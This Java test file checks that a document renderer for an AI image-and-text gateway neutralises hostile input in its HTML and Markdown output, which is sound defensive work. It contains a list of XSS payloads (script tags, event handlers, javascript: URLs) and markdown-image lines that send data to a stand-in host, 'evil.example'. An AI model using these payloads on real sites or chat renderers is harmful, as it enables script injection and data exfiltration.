package io.llmi.gateway.render;

import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;

import io.llmi.events.BlobRef;
import io.llmi.events.Document;
import io.llmi.events.Document.ImagePart;
import io.llmi.events.Document.TextPart;
import io.llmi.events.FailureCode;
import io.llmi.events.JobId;
import io.llmi.events.JobStatus;
import io.llmi.events.Json;
import io.llmi.events.Provenance;
import io.llmi.events.ToolFailure;
import io.llmi.gateway.log.Samples;
import org.commonmark.node.AbstractVisitor;
import org.commonmark.node.HtmlBlock;
import org.commonmark.node.HtmlInline;
import org.commonmark.node.Image;
import org.commonmark.parser.Parser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class RenderTest {
    private static final JobId JOB = JobId.timeOrdered(Samples.AT);
    private static final BlobRef BLOB = new BlobRef("cd".repeat(32), "image/jpeg", 640, 480, 5000);

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "text <img src=x onerror=alert(1)> text",
                "<svg onload=alert(1)>",
                "<svg/onload=alert(1)//",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java\nscript:alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "[x](vbscript:msgbox)",
                "[x]: javascript:alert(1)\n\n[x]",
                "<javascript:alert(1)>",
                "![x](https://evil.example/?d=secret)",
                "![x][y]\n\n[y]: https://evil.example/?d=secret",
                "[![x](https://evil.example/a.png)](https://ok.example)",
                "<div>\n\n![x](https://evil.example/a.png)\n\n</div>",
                "<div>\n![x](https://evil.example/a.png)\n</div>",
                "\\<b>\\![x](https://evil.example)\\\\![y](https://evil.example)",
                "| a | b |\n|---|---|\n| ![x](https://evil.example/a) | <img src=x onerror=alert(1)> |",
                "```html\n<script>alert(1)</script>\n```",
                "![<img src=x onerror=alert(1)>](x)",
                "![\"onload=\"alert(1)](https://evil.example/\"onerror=\"alert(1))",
                "<style>body{background:url(https://evil.example)}</style>",
                "<a href=\"javascript:alert(1)\" onclick=alert(1)>x</a>",
                "<!-- ![x](https://evil.example/a.png) -->",
                "<![CDATA[ <script>alert(1)</script> ]]>"
            })
    void shouldBeHarmlessWhenTheTextIsHostile(String text) {
        Document document = document(new TextPart(text));

        String html = DocumentRenderer.render(document, ImageLinks.blobs());
        String body = html.substring(html.indexOf("<main>"));

        // No element that acts, no attribute that runs, no address that is fetched or executed.
        assertThat(body).doesNotContainPattern("(?i)<(script|img|svg|iframe|object|embed|style|link|meta|form)\\b");
        assertThat(body).doesNotContainPattern("(?i)<[a-z][^>]*\\s(on[a-z]+|style|src)\\s*=");
        assertThat(body).doesNotContainPattern("(?i)href=\"(?!https?://|mailto:)");
        assertThat(active(MarkdownRenderer.render(document, ImageLinks.blobs())))
                .isEmpty();
    }

    @Test
    void shouldEscapeWhatIsNotTextWhenToolsAndPromptsAreHostile() {
        String evil = "\"><script>alert(1)</script><img src=x onerror=alert(1)>](x)![y](https://evil.example)";
        Provenance origin = new Provenance(
                evil,
                Optional.of(evil),
                Json.mapper().createObjectNode(),
                Optional.of("javascript:alert(1)"),
                Optional.of(evil),
                Optional.of(evil),
                Optional.of(evil),
                1);
        ImagePart ready = ImagePart.pending(0, evil, evil).ready(evil, BLOB, origin);
        ImagePart failed = ImagePart.pending(1, evil, evil).failed(new ToolFailure(FailureCode.TIMEOUT, evil));
        ImagePart pending = ImagePart.pending(2, evil, evil);
        Document document = document(ready, failed, pending);

        String html = DocumentRenderer.render(document, ImageLinks.blobs());
        String markdown = MarkdownRenderer.render(document, ImageLinks.blobs());

        assertThat(html).doesNotContain("<script").doesNotContain("javascript:");
        assertThat(html.split("<img ", -1)).hasSize(2);
        assertThat(html).contains("<img src=\"/v1/blobs/" + BLOB.sha256() + "\"");
        assertThat(active(markdown)).containsExactly(Map.entry("/v1/blobs/" + BLOB.sha256(), "image"));
    }

    @Test
    void shouldStripBidiControlsTagsAndEscapesWhenTheTextHidesThem() {
        String hidden = "a\u202Eb\u2066c\u200Fd\u001B[31me" + Character.toString(0xE0041) + "f\uFEFFg";
        Document document = document(new TextPart(hidden + " \uD83D\uDC69\u200D\uD83D\uDE80"));

        assertThat(DocumentRenderer.render(document, ImageLinks.blobs()))
                .contains("abcd[31mefg &#x1f469;\u200D&#x1f680;");
        assertThat(MarkdownRenderer.render(document, ImageLinks.blobs())).contains("abcd[31mefg");
    }

    @Test
    void shouldNotBringBackBidiControlsWhenTheyAreWrittenAsEntities() {
        Document document = document(new TextPart("a&#x202E;b&#8238;c&rlm;d"));

        assertThat(DocumentRenderer.render(document, ImageLinks.blobs())).contains("<p>abcd</p>");
        assertThat(MarkdownRenderer.render(document, ImageLinks.blobs()))
                .contains("a&#38;#x202E;b&#38;#8238;c&#38;rlm;d");
    }

    @Test
    void shouldShowWhatMarkdownSaysWhenItIsHarmless() {
        String html = SafeHtml.of("# Title\n\n*soft* **loud** `code`\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n"
                + "[site](https://ok.example/a?b=1)\n\n1. one\n2. two\n\n> said\n\n```\n<b>\n```");

        assertThat(html)
                .contains("<h1>Title</h1>", "<em>soft</em>", "<strong>loud</strong>", "<code>code</code>")
                .contains("<td align=\"right\">2</td>", "<blockquote>", "<ol>", "&lt;b&gt;")
                .containsPattern(
                        "<a href=\"https://ok.example/a\\?b(=|&#61;)1\" rel=\"[a-z ]*noopener[a-z ]*\">site</a>")
                .contains("noreferrer", "nofollow");
    }

    @Test
    void shouldExplainGapsAndCreditPicturesWhenRendered() {
        Provenance origin = Provenance.madeBy("local-library", Json.mapper().createObjectNode())
                .withCredit(
                        Optional.of("https://photos.example/1"), Optional.of("CC BY 4.0"), Optional.of("Ada Example"));
        Document document = document(
                new TextPart("# Harbours\n\nBefore"),
                ImagePart.pending(0, "search", "a harbour").ready("boats", BLOB, origin),
                ImagePart.pending(1, "diffusion", "a storm")
                        .failed(new ToolFailure(FailureCode.TIMEOUT, "took too long")));

        String html = DocumentRenderer.render(document, ImageLinks.files());
        String markdown = MarkdownRenderer.render(document, ImageLinks.files());

        assertThat(html)
                .contains("<title>Harbours</title>", "<html lang=\"en\">", "Content-Security-Policy")
                .contains("src=\"images/1.jpg\" alt=\"boats\" width=\"640\" height=\"480\"")
                .contains("Ada Example", "CC BY 4.0", "local-library", "href=\"https://photos.example/1\"")
                .contains("Picture 2 is missing", "timeout", "took too long", "Wanted: a storm");
        assertThat(markdown)
                .contains("![boats](images/1.jpg)", "> **Picture 2 is missing** (timeout): took too long")
                .contains("Ada Example; licence CC BY 4.0", "[source](<https://photos.example/1>)");
    }

    @Test
    void shouldNameTheSourceOfAnEditAsAReaderCountsIt() {
        Provenance origin = Provenance.madeBy("classical", Json.mapper().createObjectNode());
        Document document = document(
                ImagePart.pending(0, "edit", "x").ready("x", BLOB, origin.withDerivedFrom(Optional.of("input/0"))),
                ImagePart.pending(1, "edit", "y").ready("y", BLOB, origin.withDerivedFrom(Optional.of(JOB + "/0/0"))),
                ImagePart.pending(2, "edit", "z").ready("z", BLOB, origin.withDerivedFrom(Optional.of("elsewhere"))));

        assertThat(DocumentRenderer.render(document, ImageLinks.files()))
                .contains("made from input picture 1", "made from picture 1", "made from elsewhere");
    }

    @Test
    void shouldExportAllFilesWhenOnePictureIsGone() throws Exception {
        Provenance origin = Provenance.madeBy("procedural", Json.mapper().createObjectNode());
        Document document = document(
                ImagePart.pending(0, "diffusion", "x").ready("x", BLOB, origin),
                ImagePart.pending(1, "diffusion", "y")
                        .ready("y", new BlobRef("ee".repeat(32), "image/png", 1, 1, 3), origin));
        Map<String, byte[]> files = new HashMap<>();

        DocumentExport.write(
                document,
                sha -> sha.equals(BLOB.sha256()) ? Optional.of(new byte[] {1}) : Optional.empty(),
                files::put);

        assertThat(files).containsOnlyKeys("document.html", "document.md", "document.json", "images/1.jpg");
        assertThat(Json.mapper().readValue(files.get("document.json"), Document.class))
                .isEqualTo(document);
    }

    private static Document document(Document.Part... parts) {
        return new Document(
                JOB,
                JobStatus.PARTIAL,
                Samples.AT,
                Optional.of(Samples.AT),
                "a prompt in English",
                List.of(parts),
                Document.Usage.NONE,
                Document.Timings.NONE,
                Optional.empty());
    }

    /** What a Markdown viewer would load, run or let through as HTML, by its address. */
    private static Map<String, String> active(String markdown) {
        Map<String, String> found = new HashMap<>();
        Parser.builder()
                .extensions(List.of(org.commonmark.ext.gfm.tables.TablesExtension.create()))
                .build()
                .parse(markdown)
                .accept(new AbstractVisitor() {
                    @Override
                    public void visit(HtmlInline html) {
                        found.put(html.getLiteral(), "html");
                    }

                    @Override
                    public void visit(HtmlBlock html) {
                        found.put(html.getLiteral(), "html");
                    }

                    @Override
                    public void visit(Image image) {
                        found.put(image.getDestination(), "image");
                    }

                    @Override
                    public void visit(org.commonmark.node.Link link) {
                        if (!link.getDestination().matches("(?i)(https?://|mailto:|#).*")) {
                            found.put(link.getDestination(), "link");
                        }
                        visitChildren(link);
                    }
                });
        return found;
    }
}
